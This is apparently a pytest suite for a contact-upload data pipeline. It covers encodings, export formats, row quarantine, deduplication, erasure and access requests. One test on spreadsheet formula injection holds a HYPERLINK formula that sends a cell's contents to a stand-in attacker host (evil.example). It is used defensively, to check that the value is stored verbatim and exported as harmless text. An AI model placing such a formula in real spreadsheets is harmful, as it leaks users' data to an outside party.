"""Uploaded contact lists, real files in every encoding and the Google / Outlook export formats: header
mapping, normalisation, deduplication by blind index, quarantine with file / row / reason, an empty file, a
file that cannot be read, exactly-once loading, a 100k-row file, and erasure by e-mail reaching an uploaded
contact, an app user and their billing profile, leaving no byte on disk."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
from pathlib import Path

import duckdb
import polars as pl
import pytest

from pipelines.contact_uploads import UploadReport, load_uploads
from pipelines.contact_uploads.reader import read_upload
from pipelines.contact_uploads.sandbox import google_csv, outlook_csv, write_sandbox_uploads, xlsx
from pipelines.contact_uploads.settings import CONTACT_COLUMNS, DATASET_NAME
from pipelines.crm_app import app_schema
from pipelines.crm_app import sandbox as crm_sandbox
from pipelines.privacy.audit import AuditLog
from pipelines.privacy.dsr import process_pending
from pipelines.privacy.requests import Request
from tests.conftest import Platform, found_in_files
from tests.crm_app.conftest import AppPlatform, decrypted

PEOPLE = [("Zoë", "Müller", "Zoe.Mueller@Example.com", "+49 30 901820"),
          ("José", "Núñez", "jose@example.org", "+34 912 345 678"),
          ("Åsa", "Öberg", "asa@example.net", "")]
STORED = [("Zoë", "Müller", "zoe.mueller@example.com", "+4930901820"),
          ("José", "Núñez", "jose@example.org", "+34912345678"),
          ("Åsa", "Öberg", "asa@example.net", None)]


def _load(platform: Platform, *workspaces: str) -> UploadReport:
    platform.register_workspaces(*workspaces)
    with platform.keyring() as cipher:
        return load_uploads(platform.root / "landing" / "contacts", cipher, warehouse_path=platform.warehouse,
                            dlt_dir=platform.dlt_dir, work_dir=platform.work_dir,
                            known_workspaces=platform.known_workspaces())


def _land(platform: Platform, name: str, data: bytes) -> Path:
    path = platform.root / "landing" / "contacts" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _contacts(platform: Platform) -> list[tuple]:
    return sorted(_contacts_rows(platform))


def _contacts_rows(platform: Platform) -> list[tuple]:
    rows = decrypted(platform, DATASET_NAME, "uploaded_contacts", CONTACT_COLUMNS)
    return [(r["first_name"], r["last_name"], r["email"], r["phone"]) for r in rows]


def _quarantine(platform: Platform) -> list[tuple]:
    return platform.query(f"SELECT source_file, source_row, reason FROM {DATASET_NAME}.uploaded_contacts_quarantine "
                          "ORDER BY ALL")


def _csv(delimiter: str = ",") -> str:
    lines = [delimiter.join(("First Name", "Last Name", "E-mail Address", "Mobile Phone"))]
    return "\n".join(lines + [delimiter.join(p) for p in PEOPLE]) + "\n"


@pytest.mark.parametrize("encoding, delimiter", [
    ("utf-8", ","), ("utf-8-sig", ";"), ("utf-16", "\t"), ("utf-16-le", ","), ("cp1252", ";"), ("utf-8", "|")])
def test_every_encoding_and_delimiter_reads_the_same_contacts(platform: Platform, encoding: str,
                                                               delimiter: str) -> None:
    path = _land(platform, "ws_a/list.csv", _csv(delimiter).encode(encoding))
    report = _load(platform, "ws_a")
    assert (report.files_loaded, report.rows, report.contacts_loaded, report.rows_quarantined) == (1, 3, 3, 0)
    assert _contacts(platform) == sorted(STORED)
    assert platform.query(f"SELECT encoding FROM {DATASET_NAME}.contact_upload_files") == [
        (encoding.replace("-sig", ""),)]
    assert not path.exists()  # loaded, then deleted from the landing zone


def test_google_and_outlook_exports_and_excel_map_their_headers(platform: Platform) -> None:
    people = [("Ann", "Lee", "ann@example.com", "(202) 555-0101"), ("Bo", "Chen", "bo@example.com", "")]
    _land(platform, "ws_a/google.csv", google_csv(people))
    _land(platform, "ws_b/outlook.csv", outlook_csv([("Zoë", "Müller", "zoe@example.com", "+44 20 7946 0018")]))
    _land(platform, "ws_c/sheet.xlsx", xlsx([("Cy", "Diaz", "cy@example.org", "+1 202 555 0102")]))
    report = _load(platform, "ws_a", "ws_b", "ws_c")
    assert (report.files_loaded, report.contacts_loaded, report.rows_quarantined) == (3, 3, 1)
    # no region for ws_a: a national number cannot be placed (the app database gives each workspace one)
    assert _quarantine(platform) == [("ws_a/google.csv", 2, "invalid_phone")]
    assert _contacts(platform) == [("Bo", "Chen", "bo@example.com", None), ("Cy", "Diaz", "cy@example.org", "+12025550102"),
                                   ("Zoë", "Müller", "zoe@example.com", "+442079460018")]


def test_bad_and_duplicate_rows_an_empty_file_and_an_unreadable_one(platform: Platform) -> None:
    _land(platform, "ws_a/list.csv", (
        "Email,Phone,Name\n"
        "ann@example.com,,Ann Lee\n"           # row 2
        "broken@,,Broken\n"                    # row 3: invalid e-mail
        ",,Nobody\n"                           # row 4: no identifier
        "ANN@example.com,,Ann Again\n"         # row 5: the same person: dropped as a duplicate
        "bo@example.com,not a phone,Bo\n"      # row 6: invalid phone
        "+1 202 555 0199,,Phone In Email\n"    # row 7: invalid e-mail
    ).encode())
    _land(platform, "ws_a/empty.csv", b"")
    _land(platform, "ws_a/binary.xlsx", b"PK\x03\x04 this is not a workbook")
    _land(platform, "ws_a/no-columns.csv", b"Name,City\nAnn,Paris\n")
    _land(platform, "ws_zz/elsewhere.csv", b"Email\nx@example.com\n")  # not a known workspace: waits
    report = _load(platform, "ws_a")
    assert (report.files_loaded, report.files_rejected, report.files_waiting) == (2, 2, 1)
    assert (report.rows, report.contacts_loaded, report.duplicates_dropped, report.rows_quarantined) == (6, 1, 1, 4)
    assert _quarantine(platform) == [
        ("ws_a/binary.xlsx", 0, "unreadable_file"), ("ws_a/list.csv", 3, "invalid_email"),
        ("ws_a/list.csv", 4, "no_identifier"), ("ws_a/list.csv", 6, "invalid_phone"),
        ("ws_a/list.csv", 7, "invalid_email"), ("ws_a/no-columns.csv", 0, "no_contact_columns")]
    assert _contacts(platform) == [("Ann", "Lee", "ann@example.com", None)]
    assert platform.query(f"SELECT source_file, status, rows, contacts_loaded, duplicates_dropped, rows_quarantined "
                          f"FROM {DATASET_NAME}.contact_upload_files ORDER BY 1") == [
        ("ws_a/binary.xlsx", "rejected", 0, 0, 0, 1), ("ws_a/empty.csv", "loaded", 0, 0, 0, 0),
        ("ws_a/list.csv", "loaded", 6, 1, 1, 4), ("ws_a/no-columns.csv", "rejected", 0, 0, 0, 1)]
    remaining = sorted(p.relative_to(platform.root / "landing" / "contacts").as_posix()
                       for p in (platform.root / "landing" / "contacts").rglob("*") if p.is_file())
    assert remaining == ["ws_zz/elsewhere.csv"]


def test_a_file_name_that_is_not_utf8_is_rejected_with_its_bytes_escaped(platform: Platform) -> None:
    """A name is bytes on Linux; one that is not UTF-8 cannot be a ledger or quarantine path as it is. It
    made the whole upload run fail (every workspace's files with it); now that file alone is rejected,
    named with its bytes escaped, and removed like any rejected upload."""
    _land(platform, "ws_a/good.csv", _csv().encode())
    folder = os.fsencode(platform.root / "landing" / "contacts" / "ws_a")
    with open(os.path.join(folder, b"list\xe9.csv"), "wb") as handle:
        handle.write(_csv().encode())

    report = _load(platform, "ws_a")

    assert (report.files_loaded, report.files_rejected, report.contacts_loaded) == (1, 1, 3)
    assert _quarantine(platform) == [("ws_a/list\\xe9.csv", 0, "undecodable_name")]
    assert platform.query(f"SELECT source_file, status FROM {DATASET_NAME}.contact_upload_files ORDER BY 1") == [
        ("ws_a/good.csv", "loaded"), ("ws_a/list\\xe9.csv", "rejected")]
    assert os.listdir(folder) == []


def test_an_upload_loads_once_and_a_later_one_updates_the_person(platform: Platform) -> None:
    data = _csv().encode()
    _land(platform, "ws_a/list.csv", data)
    _load(platform, "ws_a")
    _land(platform, "ws_a/list.csv", data)  # the same upload again (the app retried): already loaded
    again = _load(platform)
    assert (again.files_loaded, again.files_already_loaded, again.contacts_loaded) == (0, 1, 0)
    assert platform.query(f"SELECT count(*) FROM {DATASET_NAME}.contact_upload_files") == [(1,)]
    _land(platform, "ws_a/update.csv", b"Email,First Name,Last Name\nasa@example.net,Asa,Oberg\n")
    update = _load(platform)
    assert (update.files_loaded, update.contacts_loaded) == (1, 1)
    assert _contacts(platform) == sorted([*STORED[:2], ("Asa", "Oberg", "asa@example.net", None)])


def test_a_100k_row_file_loads_every_contact(platform: Platform) -> None:
    n = 100_000
    frame = pl.DataFrame({"Email": [f"person{i}@example.com" for i in range(n)],
                          "Mobile Phone": [f"+1 202 555 {i % 10_000:04d}" for i in range(n)],
                          "First Name": ["Pat"] * n, "Last Name": [f"Number {i}" for i in range(n)]})
    out = io.BytesIO()
    frame.write_csv(out)
    _land(platform, "ws_a/big.csv", out.getvalue())
    report = _load(platform, "ws_a")
    assert (report.rows, report.contacts_loaded, report.rows_quarantined) == (n, n, 0)
    assert platform.query(f"SELECT count(*), count(DISTINCT subject_ref), count(phone_bidx), "
                          f"count(DISTINCT phone_bidx) FROM {DATASET_NAME}.uploaded_contacts") == [(n, n, n, 10_000)]


def test_sandbox_uploads_load_with_their_bad_rows_quarantined(platform: Platform) -> None:
    platform.root.mkdir(parents=True)
    url = crm_sandbox.sandbox_url(platform.root / "app.sqlite")
    crm_sandbox.create(url)
    AppPlatform(platform, url).sync()  # the workspaces and their phone regions
    write_sandbox_uploads(platform.root / "landing" / "contacts")
    report = _load(platform)
    assert (report.files_loaded, report.rows, report.contacts_loaded, report.duplicates_dropped,
            report.rows_quarantined) == (4, 33 + 26 + 20 + 15, 30 + 25 + 20 + 15, 1, 2 + 1)


def test_erasure_by_email_reaches_an_uploaded_contact_an_app_user_and_their_billing_profile(
        app: AppPlatform) -> None:
    t0 = dt.datetime(2026, 11, 1, tzinfo=dt.timezone.utc)
    times = {"created_at": t0, "updated_at": t0}
    app.execute(app_schema.workspaces.insert(), [{"workspace_id": "ws_a", "name": "A", "plan": "growth", "seats": 3,
                                                  "default_region": "GB", **times}])
    app.execute(app_schema.users.insert(), [{"user_id": "u1", "workspace_id": "ws_a", "full_name": "Ann Lee",
                                             "email": "ann.lee@example.com", "phone": None, "role": "owner", **times}])
    app.execute(app_schema.billing_profiles.insert(), [{
        "billing_profile_id": "bp1", "workspace_id": "ws_a", "user_id": "u1", "processor_customer_id": "cus_Z9",
        "card_brand": "visa", "card_last4": "4242", "card_exp_month": 1, "card_exp_year": 2029, **times}])
    app.sync()  # the workspace is known now, with its region
    _land(app.platform, "ws_a/list.csv",
          b"Email,Mobile Phone,Name\nAnn.Lee@example.com,020 7946 0018,Ann Lee\nbo@example.com,,Bo Chen\n")
    with app.platform.keyring() as cipher:
        report = load_uploads(app.root / "landing" / "contacts", cipher, warehouse_path=app.platform.warehouse,
                              dlt_dir=app.platform.dlt_dir, work_dir=app.platform.work_dir,
                              known_workspaces=app.platform.known_workspaces())
    assert report.contacts_loaded == 2
    assert ("Ann", "Lee", "ann.lee@example.com", "+442079460018") in _contacts(app.platform)  # GB: the region

    app.inbox.submit(Request("erasure", "ws_a", "email", "ANN.LEE@example.com"))
    with app.platform.keyring() as cipher, duckdb.connect(str(app.platform.warehouse)) as con:
        erased = process_pending(con, cipher, app.inbox, AuditLog.of(app.root / "privacy" / "audit.jsonl", cipher),
                                 exports_dir=app.root / "exports", landing_urls={})
    assert erased.rows_by_table == {"raw_contact_uploads.uploaded_contacts": 1, "raw_crm_app.users": 1,
                                    "raw_crm_app.billing_profiles": 1}
    assert _contacts(app.platform) == [("Bo", "Chen", "bo@example.com", None)]
    assert found_in_files(app.root, {"ann.lee@example.com", "Ann.Lee", "442079460018", "020 7946 0018", "cus_Z9"}) == {}


def test_what_the_fuzzer_found_loads_row_by_row(platform: Platform) -> None:
    """Each class of defect the upload fuzzer (test_fuzz_uploads.py) found, as one file: a file's own `_row`
    column (the run crashed), BOM-less UTF-16 of ASCII text (read as UTF-8 full of NULs: every row invalid), and
    a row with more fields than the header, a stray quote and a quote left open by a file cut short (each
    rejected the whole file)."""
    _land(platform, "ws_a/own-row-column.csv", b"_row,Email\n1,ann@example.com\n")
    _land(platform, "ws_a/utf16be.csv", "Email,Name\nbo@example.com,Bo\n".encode("utf-16-be"))
    _land(platform, "ws_a/ragged.csv", (
        'Email,Name\n'
        'cy@example.com,Cy\n'                 # row 2
        'dee@example.com,Dee,Extra,More\n'    # row 3: more fields than the header
        'eve@example.com\n'                   # row 4: fewer fields: padded, as spreadsheets save them
        '"fay@example.com"x,Fay\n'            # row 5: a stray character after a closing quote
        'gus@example.com,"Gus\n'              # row 6: a quote the cut left open swallows the rest
        'hal@example.com,Hal\n').encode())
    report = _load(platform, "ws_a")
    assert (report.files_loaded, report.files_rejected, report.rows, report.contacts_loaded,
            report.rows_quarantined) == (3, 0, 7, 4, 3)
    assert _quarantine(platform) == [("ws_a/ragged.csv", 3, "ragged_row"), ("ws_a/ragged.csv", 5, "malformed_row"),
                                     ("ws_a/ragged.csv", 6, "malformed_row")]
    assert sorted(r[2] for r in _contacts_rows(platform)) == [
        "ann@example.com", "bo@example.com", "cy@example.com", "eve@example.com"]
    assert platform.query(f"SELECT source_file, encoding FROM {DATASET_NAME}.contact_upload_files ORDER BY 1") == [
        ("ws_a/own-row-column.csv", "utf-8"), ("ws_a/ragged.csv", "utf-8"), ("ws_a/utf16be.csv", "utf-16-be")]


def test_formula_looking_values_load_verbatim_and_the_access_export_keeps_them_as_text(app: AppPlatform) -> None:
    """Spreadsheet formula injection (=, +, -, @ first): such values are the person's data as they gave it (a
    phone starts with +, a name with -), so they are neither quarantined nor altered when stored; the access
    export is JSON, where they are strings a spreadsheet does not evaluate (see the README's uploads section)."""
    t0 = dt.datetime(2026, 11, 1, tzinfo=dt.timezone.utc)
    app.execute(app_schema.workspaces.insert(), [{"workspace_id": "ws_a", "name": "A", "plan": "growth", "seats": 3,
                                                  "default_region": "US", "created_at": t0, "updated_at": t0}])
    app.sync()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    _land(app.platform, "ws_a/list.csv", (
        "Email,Mobile Phone,First Name,Last Name,Company\n"
        f'ann@example.com,+1 202 555 0143,"{formula.replace(chr(34), chr(34) * 2)}",-Lee-,@SUM(1+1)\n').encode())
    with app.platform.keyring() as cipher:
        report = load_uploads(app.root / "landing" / "contacts", cipher, warehouse_path=app.platform.warehouse,
                              dlt_dir=app.platform.dlt_dir, work_dir=app.platform.work_dir,
                              known_workspaces=app.platform.known_workspaces())
    assert (report.contacts_loaded, report.rows_quarantined) == (1, 0)
    app.inbox.submit(Request("access", "ws_a", "email", "ann@example.com"))
    with app.platform.keyring() as cipher, duckdb.connect(str(app.platform.warehouse)) as con:
        process_pending(con, cipher, app.inbox, AuditLog.of(app.root / "privacy" / "audit.jsonl", cipher),
                        exports_dir=app.root / "exports", landing_urls={})
    (export,) = (app.root / "exports").glob("*.json")
    (row,) = json.loads(export.read_text())["tables"]["raw_contact_uploads.uploaded_contacts"]
    assert (row["first_name"], row["last_name"], row["company"], row["phone"]) == (
        formula, "-Lee-", "@SUM(1+1)", "+12025550143")


def test_a_file_read_record_by_record_takes_its_header_as_polars_does() -> None:
    """The record-by-record reading (a file polars cannot take whole) skips blank lines before the header and
    keeps the first of duplicate headers, as the polars reading does."""
    upload = read_upload("list.csv", b"\n\nEmail,Email,Name\nann@example.com,x@example.com,Ann,extra\n"
                                     b"bo@example.com,y@example.com,Bo\n")
    assert upload.frame.rows() == [(2, "ragged_row", None, None), (3, None, "bo@example.com", "Bo")]
    assert upload.frame.columns == ["_row", "_read_reason", "email", "full_name"]
